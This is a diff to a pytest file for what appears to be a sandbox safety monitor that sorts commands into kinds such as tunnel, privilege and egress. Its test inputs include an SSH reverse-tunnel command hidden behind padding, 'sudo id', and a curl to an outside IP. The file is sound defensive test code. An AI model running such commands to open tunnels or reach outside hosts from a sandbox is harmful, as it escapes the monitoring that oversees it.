@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from mini_rome.sandbox import Pool
 from mini_rome.sandbox.safety import (
     EVIDENCE_BYTES,
     KINDS,
@@ -185,3 +186,16 @@ def test_long_text_costs_at_most_seconds(text: str) -> None:
 
 def test_an_attempt_behind_padding_is_seen() -> None:
     assert "tunnel" in kinds("echo " + "a" * 300_000 + "\nssh -N -R 2:localhost:22 u@203.0.113.5")
+
+
+def test_a_pool_logs_the_events_of_every_episode(tmp_path: Path) -> None:
+    log = EventLog(tmp_path / "safety.jsonl", run="r")
+    with Pool("sim", size=1, event_log=log) as pool:
+        for command in ("echo x", "sudo id", "curl http://203.0.113.5"):
+            with pool.box() as box:
+                box.exec("true")
+                box.exec(command)
+    assert [(row["episode"], row["step"], row["kind"]) for row in read_rows(log.path)] == [
+        (2, 2, "privilege"),
+        (3, 2, "egress"),
+    ]
